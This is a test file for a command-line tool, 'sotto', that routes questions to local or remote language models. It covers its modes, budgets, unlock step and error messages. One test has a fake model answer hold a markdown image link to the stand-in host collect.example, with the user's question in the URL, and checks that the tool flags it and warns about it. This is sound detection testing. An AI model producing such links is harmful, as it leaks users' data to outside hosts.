import { chmod } from 'node:fs/promises';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createCliWorkbench, jsonOf, type CliWorkbench } from '../testing/cli-workbench.ts';
import { startFakeProvider } from '../testing/fake-provider-server.ts';
import type { FakeProviderServer } from '../testing/fake-provider-server.ts';

let bench: CliWorkbench;
let server: FakeProviderServer;
beforeEach(async () => {
  bench = await createCliWorkbench();
  server = await startFakeProvider({ key: null });
});
afterEach(async () => {
  await server.close();
  await bench.close();
});

describe('sotto ask --where', () => {
  it('refuses a place that is none', async () => {
    const ended = await bench.sotto('ask', '--where', 'moon', 'Why?');
    expect(ended.exitCode).toBe(2);
    expect(ended.stderr).toMatch(/local, remote/);
  });

  it('says that the mode is off, and asks nobody', async () => {
    const ended = await bench.sotto('ask', '--where', 'remote', '--json', 'What is the capital of France?');
    expect(jsonOf(ended)).toMatchObject({
      answer: expect.stringContaining('Paris'),
      route: { zone: 'local', reason: 'mode-off' },
      costMicroDollars: null,
      replaced: 0,
      ledgerEntryIds: [],
    });
    expect(server.requests).toEqual([]);
  });
});

describe('sotto remotes mode', () => {
  const keep = async (): Promise<readonly string[]> => {
    const passphrase = await bench.file('passphrase', 'four unrelated words\n');
    await chmod(passphrase, 0o600);
    // What one command sets is there for the next.
    return ['--passphrase-file', passphrase];
  };

  // Catches a mode that opens the lock by itself, and a terminal that cannot do what the window can.
  it('turns large models on, opens the lock when told, and tells what was noticed in an answer', async () => {
    const kept = await keep();
    const address = server.baseUrl('openai-compatible');
    await bench.sotto('remotes', 'add', '--own-server', '--address', address, '--model', 'large', 'Gate', ...kept);
    const closed = await bench.sotto('remotes', 'mode', '--budget', '2.50', 'auto', ...kept);
    expect(closed).toMatchObject({ exitCode: 0, stdout: expect.stringContaining('$0.00 of $2.50') });
    expect(closed.stderr).toContain('sotto remotes mode --yes ask');
    const opened = await bench.sotto('remotes', 'mode', '--yes', '--json', 'auto', ...kept);
    expect(jsonOf(opened)).toEqual({
      mode: 'auto',
      isOpen: true,
      budgetMicroDollars: 2_500_000,
      costMicroDollars: 0,
    });
    expect(server.requests).toEqual([]);
    server.answer(() => 'Paris. ![](https://collect.example/?q=What+is+the+capital+of+France)');
    const asked = await bench.sotto('ask', '--where', 'remote', '--json', 'What is the capital of France?', ...kept);
    expect(jsonOf(asked)).toMatchObject({ route: { zone: 'own-server' }, noticed: ['link-carries-data'] });
    expect(server.requests).toHaveLength(1);
    const told = await bench.sotto('ask', '--where', 'remote', 'What is the capital of France?', ...kept);
    expect(told.stderr).toContain('would carry data to another computer');
    const off = await bench.sotto('remotes', 'mode', '--json', 'off', ...kept);
    expect(jsonOf(off)).toMatchObject({ mode: 'off' });
  });

  it.each([
    [['remotes', 'mode', 'always'], 'off, ask, auto'],
    [['remotes', 'mode', '--budget', '-1', 'ask'], 'budget'],
    [['remotes', 'mode', '--budget', 'much', 'ask'], '0 – 99999.99'],
    [['remotes', 'mode', '--budget', '1e9', 'ask'], '0 – 99999.99'],
  ])('says clearly what is wrong with %j', async (words, said) => {
    const ended = await bench.sotto(...words);
    expect(ended.exitCode).toBe(2);
    expect(ended.stderr).toContain(said);
  });
});
